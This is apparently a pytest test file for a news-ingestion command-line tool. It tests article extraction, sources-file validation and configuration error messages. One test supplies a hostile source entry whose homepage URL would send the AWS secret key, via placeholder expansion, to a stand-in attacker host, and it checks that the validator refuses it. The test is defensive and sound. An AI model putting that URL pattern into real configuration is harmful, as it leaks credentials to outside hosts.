"""The offline commands: `newsingest extract` and `newsingest sources validate`."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from newsingest.cli import main

PAGES = Path(__file__).resolve().parent.parent / "fixtures" / "pages"


def test_extract_prints_the_record_of_a_saved_page(capsys):
    url = "https://www.express.co.uk/news/world/1181234/putin-cuba-trump-venezuela-maduro"
    assert main(["extract", str(PAGES / "seed-article.html"), "--url", url]) == 0
    record = json.loads(capsys.readouterr().out)
    assert record["schema_version"] == 1
    assert record["canonical_url"].startswith("https://www.express.co.uk/")
    assert "READ MORE" not in record["text"]
    people = {e["name"] for e in record["entities"] if e["type"] == "PERSON"}
    assert {"Donald Trump", "Nicolas Maduro"} <= people


def test_extract_of_a_binary_file_is_a_clear_error(tmp_path, capsys):
    page = tmp_path / "image.html"
    page.write_bytes(bytes(range(256)) * 40)
    assert main(["extract", str(page), "--url", "https://example.com/x", "--no-entities"]) == 1
    assert "cannot extract" in capsys.readouterr().err


def test_sources_validate_reports_every_problem_with_its_line(tmp_path, capsys):
    sources = tmp_path / "sources.yaml"
    sources.write_text(
        "sources:\n"
        "  - id: good\n    name: Good\n    homepage: https://good.example/\n"
        "  - id: Bad Id\n    name: Bad\n    homepage: not a url\n"
        "  - id: other\n    name: Other\n    homepage: https://other.example/\n    exclude: ['(']\n"
    )
    assert main(["sources", "validate", str(sources)]) == 1
    out = capsys.readouterr().out
    assert "1 valid sources" in out
    assert f"{sources}:5" in out  # the bad source's line
    assert "homepage" in out and "exclude" in out


def test_sources_validate_says_why_hostile_entries_are_refused(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    monkeypatch.setenv("SOURCE_PLACEHOLDERS", "*")
    sources = tmp_path / "sources.yaml"
    sources.write_text(
        "sources:\n"
        "  - id: leak\n    name: Leak\n    homepage: https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}\n"
        "  - id: slow\n    name: Slow\n    homepage: https://slow.example/\n    include: ['/(?=news)']\n"
    )
    assert main(["sources", "validate", str(sources)]) == 1
    out = " ".join(capsys.readouterr().out.split())  # rich wraps long lines
    assert "AWS_SECRET_ACCESS_KEY not allowed" in out and "EXAMPLEKEY" not in out
    assert "RE2" in out and "lookahead" in out


def test_sources_validate_accepts_the_bundled_sample_sources(capsys, monkeypatch):
    for name in ("SITE_HARBOUR_TIMES", "SITE_NORTHERN_LEDGER", "SITE_CIVIC_WIRE"):
        monkeypatch.setenv(name, "http://127.0.0.1:8000")
    monkeypatch.setenv("SOURCE_PLACEHOLDERS", "SITE_*")  # the explicit allow-list the local runtime sets
    bundled = Path(__file__).resolve().parents[2] / "sample_sites" / "sources.yaml"
    assert main(["sources", "validate", str(bundled)]) == 0
    assert "3 valid sources, 0 problems" in capsys.readouterr().out


def one_line_error(capsys) -> str:
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return " ".join(err.split())


def test_commands_without_aws_settings_or_a_local_runtime_say_what_to_do(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)  # no .newsingest/local.json here
    for name in ("AWS_REGION", "AWS_DEFAULT_REGION", "AWS_PROFILE", "TABLE_NAME", "AWS_ENDPOINT_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    assert main(["query", "--id", "abc"]) == 3
    assert "AWS is not configured" in one_line_error(capsys)
    for command in (["query", "--id", "abc", "--local"], ["replay", "--local"], ["backfill", "x", "--since",
                    "2026-11-01", "--local"], ["compact", "--local"]):  # fmt: skip
        assert main(command) == 3
        assert "no local runtime is running" in one_line_error(capsys)


def test_extract_refuses_what_is_not_a_url_and_version_is_printed(capsys):
    assert main(["extract", str(PAGES / "seed-article.html"), "--url", "not a url", "--no-entities"]) == 2
    assert "not a URL" in one_line_error(capsys)
    with pytest.raises(SystemExit) as done:
        main(["--version"])
    assert done.value.code == 0
    assert capsys.readouterr().out.startswith("newsingest 0.")


def test_run_without_a_sources_file_says_so_before_starting_anything(tmp_path, capsys):
    assert main(["run", "--sources", str(tmp_path / "missing.yaml"), "--ticks", "0", "--no-sample-sites"]) == 2
    assert "no sources file at" in one_line_error(capsys)
